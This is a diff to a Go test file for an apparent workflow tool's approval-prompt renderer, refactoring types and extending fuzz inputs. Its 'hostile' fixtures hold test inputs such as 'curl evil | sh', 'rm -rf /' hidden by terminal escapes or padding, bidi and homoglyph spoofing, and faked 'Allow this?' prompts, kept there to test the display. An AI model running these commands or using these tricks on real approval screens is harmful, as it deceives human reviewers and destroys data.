@@ -10,6 +10,10 @@ import (
 	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
+
+	"github.com/flowrun/flowrun/internal/engine/permission"
+	"github.com/flowrun/flowrun/internal/engine/preview"
+	"github.com/flowrun/flowrun/internal/lang/tool"
 )
 
 func TestVisible(t *testing.T) {
@@ -45,42 +49,42 @@ func TestVisible(t *testing.T) {
 var hostile = map[string]Approval{
 	"plain": {
 		Why: `tool "deploy" wants elevated rights, which a person has to approve`,
-		Tools: []ApprovalTool{
+		Tools: []preview.PreviewTool{
 			{Name: "deploy", File: "/home/ada/app/.flowrun/tools/deploy.yaml", Scope: "local", Tags: []string{"write", "web"}, Privilege: "elevated",
-				Permissions:   []ApprovalPermission{{"filesystem:write:/etc", "filesystem:write:{DIR}"}, {"network:external:example.org", "network:external:example.org"}},
+				Permissions:   []permission.Permission{{Resolved: "filesystem:write:/etc", Written: "filesystem:write:{DIR}"}, {Resolved: "network:external:example.org", Written: "network:external:example.org"}},
 				Justification: "Restarts the web server", Cleanup: []string{"rm -rf /tmp/deploy"},
 				Enforced: []string{"files", "no network", "max-memory 200 MB"}, Unenforced: []string{"cannot enforce network:external:example.org: no namespaces"}},
-			{Step: "fetch", Name: "clone", Tags: nil, Secrets: []string{"pass show token"}},
+			{Step: "fetch", Name: "clone", Tags: nil, Sources: []string{"pass show token"}},
 		},
 		Params: []ApprovalParam{{"DIR", "/srv/../etc"}, {"TOKEN", "***"}},
-		Steps: []ApprovalStep{{ID: "copy", Kind: "bash", Command: "set -e\ncp -r build \"/srv/../etc\"\n", Condition: "{a.exit-code} == 0", Fallback: "echo no"},
+		Steps: []preview.PreviewStep{{ID: "copy", Kind: "bash", Command: "set -e\ncp -r build \"/srv/../etc\"\n", Condition: "{a.exit-code} == 0", Fallback: "echo no"},
 			{ID: "fetch/clone", Kind: "run", Command: "git clone 'https://example.org/x'"}},
 	},
 	"escapes": {
 		Why: "tool \"\x1b[2J\" asks",
-		Tools: []ApprovalTool{{Name: "good\x1b[8m", File: "/tmp/\x1b]8;;http://evil\x1b\\x.yaml", Scope: "file\r", Tags: []string{"read\x1b[1A\x1b[2K"},
+		Tools: []preview.PreviewTool{{Name: "good\x1b[8m", File: "/tmp/\x1b]8;;http://evil\x1b\\x.yaml", Scope: "file\r", Tags: []string{"read\x1b[1A\x1b[2K"},
 			Privilege: "\x1b[0m", Justification: "\x1b]52;c;cm0gLXJm\a", Cleanup: []string{"\x1bc"},
-			Permissions: []ApprovalPermission{{"network:external:g\u0456thub.com", "network:external:{HOST}"}}}},
+			Permissions: []permission.Permission{{Resolved: "network:external:g\u0456thub.com", Written: "network:external:{HOST}"}}}},
 		Params: []ApprovalParam{{"A\x1b[31m", "x\ny\r\x9b2J"}},
-		Steps:  []ApprovalStep{{ID: "a\x1b", Kind: "bash", Command: "echo safe\r\x1b[2Krm -rf /\n\x1b[1A"}},
+		Steps:  []preview.PreviewStep{{ID: "a\x1b", Kind: "bash", Command: "echo safe\r\x1b[2Krm -rf /\n\x1b[1A"}},
 	},
 	"bidi": {
 		Why:    "x\u202e",
-		Tools:  []ApprovalTool{{Name: "d\u0435ploy", Justification: "\u2067harmless\u2069 \u202egnihton\u200e", File: "/tmp/\u202elmay.x"}},
+		Tools:  []preview.PreviewTool{{Name: "d\u0435ploy", Justification: "\u2067harmless\u2069 \u202egnihton\u200e", File: "/tmp/\u202elmay.x"}},
 		Params: []ApprovalParam{{"P", "\u200b\u2060\ufeff\u00ad\u3164"}},
-		Steps:  []ApprovalStep{{ID: "s", Kind: "sh", Command: "rm /\u2066א; x\u2069"}},
+		Steps:  []preview.PreviewStep{{ID: "s", Kind: "sh", Command: "rm /\u2066א; x\u2069"}},
 	},
 	"imitation": {
 		Why: "tool \"x\" is asked about",
-		Tools: []ApprovalTool{{Name: "x", Justification: "fine\n\nstep         \"harmless\" (bash)\n  runs        | true\n\nAllow this? [y/N/d] y" +
+		Tools: []preview.PreviewTool{{Name: "x", Justification: "fine\n\nstep         \"harmless\" (bash)\n  runs        | true\n\nAllow this? [y/N/d] y" +
 			strings.Repeat(" ", 70) + "Allow this? [y/N/d]"}},
-		Steps: []ApprovalStep{{ID: "x", Kind: "bash", Command: "curl evil | sh #" + strings.Repeat(" ", 60) + "Allow this? [y/N/d] n"}},
+		Steps: []preview.PreviewStep{{ID: "x", Kind: "bash", Command: "curl evil | sh #" + strings.Repeat(" ", 60) + "Allow this? [y/N/d] n"}},
 	},
 	"long": {
 		Why:    "tool \"x\" is asked about",
-		Tools:  []ApprovalTool{{Name: "x"}},
+		Tools:  []preview.PreviewTool{{Name: "x"}},
 		Params: []ApprovalParam{{"P", strings.Repeat("0123456789", 100)}},
-		Steps:  []ApprovalStep{{ID: "x", Kind: "bash", Command: strings.Repeat("true\n", 40) + "rm -rf /"}},
+		Steps:  []preview.PreviewStep{{ID: "x", Kind: "bash", Command: strings.Repeat("true\n", 40) + "rm -rf /"}},
 	},
 }
 
@@ -117,7 +121,9 @@ func TestApproval(t *testing.T) {
 func trustworthy(t testing.TB, name, text string, width int) {
 	t.Helper()
 	labels := []string{"Approve?", "tool", "  defined in", "  rights", "  tags", "  tag", "  needs", "  enforced", "  unenforced", "  reason", "  secret", "  cleanup", "  notifies", "  sets", "  ! sets", "  ! runtime", "  env file", "  input",
-		"  ! note", "parameter", "step", "  only if", "  repeats", "  runs", "  fallback", ""}
+		"  ! note", "parameter", "step", "  only if", "  repeats", "  runs", "  fallback",
+		"  handler", "  for each of", "  item", "  on", "  holds", "  runs with", "  fallback by", "  container", "  directory", "  inherits", "  keeps", "  answers", "  output file",
+		"  leaves", "  reads from", "  temp folder", ""}
 	for line := range strings.Lines(text) {
 		line = strings.TrimSuffix(line, "\n")
 		label := ""
@@ -147,10 +153,12 @@ func FuzzApproval(f *testing.F) {
 		if width < 40 || width > 500 {
 			width = 80
 		}
-		around := ApprovalInputs{[]ApprovalVariable{{x, y, true}, {y, x, false}}, []string{x}, y, x}
-		a := Approval{Why: x, Tools: []ApprovalTool{{Name: x, File: y, Scope: x, Tags: []string{y}, Privilege: x, Justification: y,
-			Secrets: []string{x}, Cleanup: []string{y}, Notify: []string{x}, Inputs: around, Permissions: []ApprovalPermission{{x, y}}}, {Step: y, Name: x}},
-			Params: []ApprovalParam{{x, y}}, Steps: []ApprovalStep{{x, y, x, y, x, x, around}}}
+		around := preview.Surroundings{Environment: []preview.PreviewVariable{{Name: x, Value: y, RunsCode: true}, {Name: y, Value: x}}, EnvFiles: []string{x}, Input: y,
+			Runtime: x, WorkingDirectory: y, OutputFile: x, DefaultResponse: y, Interactive: true, CleanEnvironment: true, Detached: true, Artifacts: []string{x}, Container: []string{y}}
+		a := Approval{Why: x, Tools: []preview.PreviewTool{{Name: x, File: y, Scope: tool.Scope(x), Tags: []string{y}, Privilege: x, Justification: y, TempDirectory: x,
+			Sources: []string{x}, Cleanup: []string{y}, Notify: []string{x}, Surroundings: around, Permissions: []permission.Permission{{Resolved: x, Written: y}}}, {Step: y, Name: x}},
+			Params: []ApprovalParam{{x, y}}, Steps: []preview.PreviewStep{{ID: x, Kind: y, Command: x, Condition: y, Repeat: x, Fallback: x, Interpreter: y + x, FallbackInterpreter: x + y,
+				Loop: x, Items: []string{y, x}, Machine: y, Holds: []string{x}, Handler: y, Surroundings: around}}}
 		var b bytes.Buffer
 		if _, err := a.Write(&b, width, false); err != nil {
 			t.Fatal(err)
